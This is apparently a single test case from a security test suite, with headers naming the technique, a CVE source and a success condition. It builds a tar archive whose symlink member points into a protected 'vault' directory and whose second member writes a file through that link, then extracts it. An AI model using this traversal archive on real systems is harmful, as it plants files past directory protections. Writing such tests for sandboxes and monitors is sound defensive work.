# technique: extracts an archive whose first member is a link to the forbidden directory and whose second lies below it
# source: CVE-2001-1267 and its kin; tar(1)
# success: a file planted in vault
# control: permissive
# needs: tar python3
# event: FileCreate
python3 - <<'END'
import io, tarfile
with tarfile.open('evil.tar', 'w') as archive:
    link = tarfile.TarInfo('way')
    link.type = tarfile.SYMTYPE
    link.linkname = 'vault'
    archive.addfile(link)
    planted = tarfile.TarInfo('way/planted')
    planted.size = 2
    archive.addfile(planted, io.BytesIO(b'x\n'))
END
tar --extract --absolute-names --keep-directory-symlink --file evil.tar
